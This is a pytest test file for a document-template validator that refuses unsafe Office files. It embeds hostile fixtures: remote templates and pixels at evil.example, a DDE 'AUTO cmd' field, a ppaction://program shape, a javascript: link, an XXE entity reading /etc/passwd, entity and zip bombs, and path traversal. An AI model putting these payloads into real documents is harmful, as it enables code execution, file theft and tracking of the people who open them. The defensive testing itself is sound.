"""Files from outside that are no templates: each is refused with what is wrong, and nothing of it runs."""

from __future__ import annotations

import io
import zipfile

import pytest

from kamerton.documents.kinds import review_deck
from kamerton.documents.office import checking, word_default
from kamerton.documents.office.checking import BadTemplate, check
from tests.documents import offices

RELS = "word/_rels/document.xml.rels"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refused(blob: bytes, office: str = "docx") -> BadTemplate:
    with pytest.raises(BadTemplate) as found:
        check(blob, office)
    assert "Nothing was kept." in str(found.value)
    return found.value


def linked(kind: str, target: str) -> bytes:
    more = f'<Relationship Id="rId99" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return offices.replaced(offices.word("Hello"), RELS, b"</Relationships>", more.encode())


def in_body(xml: str) -> bytes:
    return offices.replaced(offices.word("Hello"), "word/document.xml", b"<w:p>", xml.encode() + b"<w:p>")


def test_honest_files_pass():
    check(offices.word("{{title}}", table=("{{people.name}}",)), "docx")
    check(offices.deck(("{{title}}",)), "pptx")
    check(word_default.template(), "docx")
    check(review_deck.template(), "pptx")
    check(linked("hyperlink", "https://example.com/"), "docx")  # a reader clicks on it, or not


def test_a_file_with_the_charts_of_a_presentation_passes():
    from kamerton.documents.kinds.review import example
    from kamerton.documents.office import slides

    check(slides.fill(review_deck.template(), example()), "pptx")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("image", "https://evil.example/pixel.png"),
        ("image", "file://server/share/pixel.png"),
        ("oleObject", "https://evil.example/x"),
        ("hyperlink", "file://server/share/run.exe"),
        ("hyperlink", "javascript:alert(1)"),
        ("frame", "https://evil.example/frame.htm"),
        ("subDocument", "other.docx"),
    ],
)
def test_what_is_loaded_from_elsewhere_is_refused(kind, target):
    assert refused(linked(kind, target)).code == "outside"


def test_macros_are_refused_by_name_and_by_type():
    plain = offices.word("Hello")
    assert refused(offices.repacked(plain, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})).code == "macro"
    types = offices.part(plain, "[Content_Types].xml")
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    docm = types.replace(main, b"application/vnd.ms-word.document.macroEnabled.main+xml")
    assert refused(offices.repacked(plain, {"[Content_Types].xml": docm})).code == "macro"
    for name in ("word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin", "customUI/customUI.xml"):
        assert refused(offices.repacked(plain, {name: b"<x/>"})).code == "macro", name


def test_fields_that_load_or_run_something_are_refused():
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    split = f"<w:p><w:r>{begin}</w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r>{end}</w:r></w:p>"
    assert refused(in_body(split)).code == "outside"
    simple = '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://evil.example/p.png&quot;"/></w:p>'
    assert refused(in_body(simple)).code == "outside"
    check(in_body('<w:p><w:fldSimple w:instr=" PAGE "/></w:p>'), "docx")
    check(
        in_body('<w:p><w:fldSimple w:instr="HYPERLINK &quot;https://example.com/link/import&quot;"/></w:p>'),
        "docx",
    )


def test_embedded_programs_and_other_documents_are_refused():
    for element in (
        '<w:altChunk r:id="rId1" xmlns:r="x"/>',
        "<w:p><w:r><w:object/></w:r></w:p>",
        "<w:p><w:subDoc/></w:p>",
    ):
        assert refused(in_body(element)).code == "outside", element


def test_a_shape_that_runs_a_program_is_refused():
    deck = offices.deck(("Hello",))
    name = "ppt/slides/slide1.xml"
    action = b'<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" action="ppaction://program"/></p:cNvPr>'
    content = offices.part(deck, name)
    open_tag = content.index(b"<p:cNvPr", content.index(b"<p:sp>"))
    close = content.index(b"/>", open_tag)
    hostile = content[:close] + b">" + action + content[close + 2 :]
    assert refused(offices.repacked(deck, {name: hostile}), "pptx").code == "macro"


def test_entity_bombs_are_refused_before_anything_grows():
    bomb = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><w>&c;</w>'
    outside = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
    for content in (bomb, outside, bomb.decode().encode("utf-16")):
        code = refused(offices.repacked(offices.word("x"), {"word/footnotes.xml": content})).code
        assert code in ("entities", "broken"), code
    rels = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "x">]><Relationships/>'
    assert refused(offices.repacked(offices.word("x"), {RELS: rels})).code == "entities"


def test_zip_bombs_are_refused():
    plain = offices.word("x")
    assert refused(offices.repacked(plain, {"word/media/image9.png": b"\0" * 30_000_000})).code == "bomb"
    many = {f"word/media/i{at}.png": b"x" for at in range(checking.MOST_PARTS + 1)}
    assert refused(offices.repacked(plain, many)).code == "bomb"
    assert refused(b"PK" + b"\0" * (checking.LARGEST_BYTES + 1)).code == "too_large"


def test_a_header_that_lies_about_its_size_gains_nothing():
    plain = offices.repacked(offices.word("x"), {"word/media/image9.png": b"\0" * 3_000_000})
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        size = archive.getinfo("word/media/image9.png").file_size.to_bytes(4, "little")
    lying = plain.replace(size, (10).to_bytes(4, "little"))
    assert refused(lying).code in ("not_office", "bomb", "broken")


@pytest.mark.parametrize(
    "blob", [b"", b"PK\x03\x04", b"\xd0\xcf\x11\xe0" + b"\0" * 600, b"<html></html>", b"%PDF-1.7"]
)
def test_what_is_no_office_file_is_refused(blob):
    assert refused(blob).code == "not_office"


def test_a_damaged_part_and_the_other_format_are_refused():
    assert (
        refused(offices.repacked(offices.word("x"), {"word/document.xml": b"<w:document"})).code == "broken"
    )
    assert refused(offices.deck(("x",)), "docx").code == "wrong_format"
    assert refused(offices.word("x"), "pptx").code == "wrong_format"


def test_names_that_leave_their_folder_are_refused():
    assert refused(offices.repacked(offices.word("x"), {"../../evil.xml": b"<x/>"})).code == "broken"


def test_the_figures_behind_a_chart_are_looked_into():
    import openpyxl

    book = openpyxl.Workbook()
    written = io.BytesIO()
    book.save(written)
    deck = offices.deck(("x",))
    name = "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx"
    check(offices.repacked(deck, {name: written.getvalue()}), "pptx")
    hostile = offices.repacked(written.getvalue(), {"xl/vbaProject.bin": b"x"})
    assert refused(offices.repacked(deck, {name: hostile}), "pptx").code == "macro"
